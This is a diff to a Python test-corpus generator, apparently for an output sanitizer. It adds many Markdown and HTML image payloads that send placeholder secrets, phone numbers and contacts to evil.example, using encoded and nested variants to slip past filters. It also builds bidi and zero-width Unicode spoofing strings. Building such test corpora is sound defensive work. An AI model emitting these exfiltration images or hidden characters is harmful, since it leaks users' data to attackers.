@@ -126,7 +126,8 @@ def _markdown_exfil() -> list[str]:
     hosts = ["https://evil.example", "http://10.0.0.1", "//evil.example", "https://evil.example:8443"]
     leaks = ["?d=SECRET_TOKEN", "/collect?sms=+48100200300", "/p.png?c={{contacts}}"]
     images = [f"![x]({host}{leak})" for host, leak in product(hosts, leaks)]
-    return images + [
+    return [
+        *images,
         '![logo](https://evil.example/a.png "title")',
         "![](https://evil.example/empty-alt.png)",
         "![x](<https://evil.example/with space.png>)",
@@ -162,6 +163,21 @@ def _markdown_exfil() -> list[str]:
         "![x](https://evil.example/?d=secret\n)",
         "!\\[x](https://evil.example/escaped-bang)",
         "![x]\n(https://evil.example/split)",
+        "![x](https://evil.example/%3Fd%3Dsecret)",
+        "![x](https://evil.example/?d=secret 'single-quoted title')",
+        "![x](https://evil.example/?d=secret (paren title))",
+        "![x](  https://evil.example/spaces  )",
+        "![x](https://evil.example/a_(b)_c.png)",
+        "![**bold alt**](https://evil.example/b.png)",
+        "*![emphasised](https://evil.example/e.png)*",
+        "> ![quoted](https://evil.example/q.png)",
+        "- ![listed](https://evil.example/l.png)",
+        "| ![cell](https://evil.example/c.png) |\n|---|",
+        "&#33;[entity bang](https://evil.example/entity.png)",
+        "!&#91;entity bracket&#93;(https://evil.example/entity2.png)",
+        "<img src='https://evil.example/?d=secret' alt='![nested](x)'>",
+        "<picture><source srcset=https://evil.example/s.png><img src=x></picture>",
+        "[![a](https://evil.example/a.png)][r]\n\n[r]: https://evil.example/r",
     ]
 
 
@@ -291,8 +307,8 @@ def _tag_smuggle(text: str) -> str:
 
 
 def _invisible() -> list[str]:
-    bidi = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f"]
-    zero = ["\u200b", "\u200c", "\u200d", "\u2060", "\u2061", "\u2062", "\u2063", "\u2064", "\ufeff", "\u00ad", "\u180e"]
+    bidi = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"
+    zero = "\u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\ufeff\u00ad\u180e"
     out = [f"ad{ch}min" for ch in bidi + zero]
     out += [
         "user\u202egnp.exe",
